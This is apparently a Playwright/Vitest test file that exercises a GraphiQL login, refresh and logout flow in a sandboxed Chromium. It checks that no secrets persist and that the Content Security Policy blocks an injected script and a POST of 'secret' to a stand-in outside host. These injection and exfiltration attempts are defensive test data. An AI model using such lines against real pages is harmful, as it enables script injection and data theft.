import { existsSync } from 'node:fs';
import { pino } from 'pino';
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { loadConfig } from '../../src/config.ts';
import { type Service, serve } from '../../src/serve.ts';
import type { Credentials } from '../../src/users/first-administrator.ts';
import { testEnvironment } from '../support/service.ts';
import { createTestDatabase, type TestDatabase } from '../support/test-database.ts';

const chromiumPath = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const howToGetChromium = `no Chromium at ${chromiumPath}: install Debian's package "chromium", or set CHROMIUM_PATH`;
const chromiumIsMissing = !existsSync(chromiumPath);
// A fresh machine need not have a browser, but the checks that decide about a change must.
const mayBeSkipped = chromiumIsMissing && (process.env.CI ?? '') === '';
if (mayBeSkipped) process.stderr.write(`SKIPPED: GraphiQL was not tried in a browser, ${howToGetChromium}\n`);

const PATIENCE_MILLISECONDS = 15_000;

const Answer = z.object({ data: z.record(z.string(), z.unknown()) });
const Tokens = z.object({ accessToken: z.string(), refreshToken: z.string() });

describe.skipIf(mayBeSkipped)('GraphiQL in a browser', { timeout: 90_000 }, () => {
  let database: TestDatabase;
  let service: Service;
  let browser: Browser;

  beforeAll(async () => {
    if (chromiumIsMissing) throw new Error(howToGetChromium);
    database = await createTestDatabase();
    service = await startAsNewcomer(database);
    browser = await launchChromium();
  });

  afterAll(async () => {
    await browser?.close();
    await service?.close();
    await database?.drop();
  });

  it('leads from the printed credentials through login, me, refreshToken and logout', async () => {
    await using visitor = await visit(browser, service);
    const { page, problems } = visitor;
    const printed = printedBy(service);

    expect(JSON.parse(await copy(page, 'Variables'))).toEqual({
      input: { email: printed.email, password: '', refreshTokenTransport: 'BODY' },
    });
    await paste(page, 'Variables', { input: { ...printed, refreshTokenTransport: 'BODY' } });
    const signedIn = Tokens.parse((await run(page, '"accessToken"')).login);

    await openTab(page, 'Me');
    await page.getByRole('button', { name: 'Headers' }).click();
    await paste(page, 'Headers', { Authorization: `Bearer ${signedIn.accessToken}` });
    expect(await run(page, '"me"')).toMatchObject({ me: { email: printed.email, sessions: [{ current: true }] } });

    await openTab(page, 'RefreshToken');
    await page.getByRole('button', { name: 'Variables' }).click();
    await paste(page, 'Variables', { input: { refreshToken: signedIn.refreshToken } });
    const refreshed = Tokens.parse((await run(page, '"accessToken"')).refreshToken);

    await openTab(page, 'Logout');
    await page.getByRole('button', { name: 'Headers' }).click();
    await paste(page, 'Headers', { Authorization: `Bearer ${refreshed.accessToken}` });
    expect(await run(page, '"revokedSessions"')).toEqual({ logout: { revokedSessions: 1 } });

    await openTab(page, 'Me');
    expect(await run(page, '"UNAUTHENTICATED"')).toEqual({ me: null });
    expect(problems).toEqual([]);
  });

  it('keeps nothing of what was typed, neither in the browser nor in the address', async () => {
    await using visitor = await visit(browser, service);
    const { page } = visitor;

    await paste(page, 'Variables', { input: { email: 'canary@latchkey.test', password: 'a canary in a coal mine' } });
    await run(page, '"INVALID_CREDENTIALS"');

    const { localStorage, sessionStorage } = await page.evaluate(() => ({
      localStorage: JSON.stringify(globalThis.localStorage),
      sessionStorage: JSON.stringify(globalThis.sessionStorage),
    }));
    expect({ localStorage, sessionStorage }).toEqual({ localStorage: '{}', sessionStorage: '{}' });
    expect(page.url()).toBe(`${service.url}/graphql`);
  });

  it('runs no script but its own, and sends nothing to anybody else', async () => {
    await using visitor = await visit(browser, service);
    const { page, problems } = visitor;

    const scriptRan = await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.injected = true';
      document.body.append(script);
      return 'injected' in globalThis;
    });
    const sent = await page.evaluate(() =>
      fetch('https://elsewhere.latchkey.test/', { method: 'POST', mode: 'no-cors', body: 'secret' }).then(
        () => true,
        () => false,
      ),
    );

    expect({ scriptRan, sent }).toEqual({ scriptRan: false, sent: false });
    expect(problems).not.toEqual([]);
    expect(problems.filter((problem) => !problem.includes('Content Security Policy'))).toEqual([]);
  });
});

/** On a database that nobody has used, and without a word about an administrator. */
function startAsNewcomer({ url }: TestDatabase): Promise<Service> {
  const environment = { ...testEnvironment, DATABASE_URL: url, ADMIN_EMAIL: '', ADMIN_PASSWORD: '' };
  const noDevelopmentKey = () => {
    throw new Error('the test environment has a key');
  };
  return serve({ config: loadConfig(environment, noDevelopmentKey), log: pino({ level: 'silent' }) });
}

/** The credentials that a terminal shows once. */
function printedBy({ newAdministrator }: Service): Credentials {
  if (newAdministrator === null) throw new Error('no administrator was made');
  return newAdministrator;
}

function launchChromium(): Promise<Browser> {
  return chromium.launch({
    executablePath: chromiumPath,
    args: [
      '--no-sandbox',
      '--disable-gpu',
      '--disable-quic',
      '--no-first-run',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
      // The network is shut to all but this machine.
      '--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1',
    ],
  });
}

interface Visit {
  readonly page: Page;
  /** What the page, or somebody in it, complained about. */
  readonly problems: readonly string[];
  [Symbol.asyncDispose](): Promise<void>;
}

/** Comes to the front door, as a person does, and waits until GraphiQL can be typed into. */
async function visit(browser: Browser, { url }: Service): Promise<Visit> {
  const context = await browser.newContext({
    viewport: { width: 1280, height: 1000 },
    permissions: ['clipboard-read', 'clipboard-write'],
  });
  const problems = await watch(context, url);
  const page = await context.newPage();
  page.setDefaultTimeout(PATIENCE_MILLISECONDS);
  await page.goto(url);
  await page.getByRole('region', { name: 'Variables' }).getByText('"password"').waitFor();
  return { page, problems, [Symbol.asyncDispose]: () => context.close() };
}

/** Lets requests go to the service only, and writes down whatever goes wrong. */
async function watch(context: BrowserContext, serviceUrl: string): Promise<readonly string[]> {
  const problems: string[] = [];
  await context.route(
    (url) => ['http:', 'https:'].includes(url.protocol) && url.origin !== serviceUrl,
    (route, request) => {
      problems.push(`asks elsewhere: ${request.url()}`);
      return route.abort();
    },
  );
  context.on('requestfailed', (request) => problems.push(`gets no answer: ${request.url()}`));
  context.on('weberror', (error) => problems.push(`throws: ${error.error().message}`));
  context.on('console', (message) => {
    if (['error', 'warning'].includes(message.type())) problems.push(message.text());
  });
  return problems;
}

function openTab(page: Page, name: string): Promise<void> {
  return page.getByRole('tablist').getByRole('button', { name, exact: true }).click();
}

/** Puts it in the place of everything in the pane. */
async function paste(page: Page, pane: 'Variables' | 'Headers', content: object): Promise<void> {
  await page.evaluate((text) => navigator.clipboard.writeText(text), JSON.stringify(content, null, 2));
  await page.getByRole('region', { name: pane }).getByRole('textbox').focus();
  await page.keyboard.press('Control+A');
  await page.keyboard.press('Control+V');
}

async function copy(page: Page, pane: 'Variables' | 'Result Window'): Promise<string> {
  await page.getByRole('region', { name: pane }).getByRole('textbox').focus();
  await page.keyboard.press('Control+A');
  await page.keyboard.press('Control+C');
  return page.evaluate(() => navigator.clipboard.readText());
}

/** Presses play, and copies the data of the answer once the answer shows this. */
async function run(page: Page, shown: string): Promise<Record<string, unknown>> {
  const result = page.getByRole('region', { name: 'Result Window' });
  // GraphiQL takes a moment to notice that a tab has another operation; asked for the old one, it sends nothing.
  const pressedTooEarly = result.getByText('Cannot infer operation');
  do {
    await page.getByRole('button', { name: /^Execute query/ }).click();
    await result.getByText(shown).or(pressedTooEarly).first().waitFor();
  } while (await pressedTooEarly.first().isVisible());
  return Answer.parse(JSON.parse(await copy(page, 'Result Window'))).data;
}
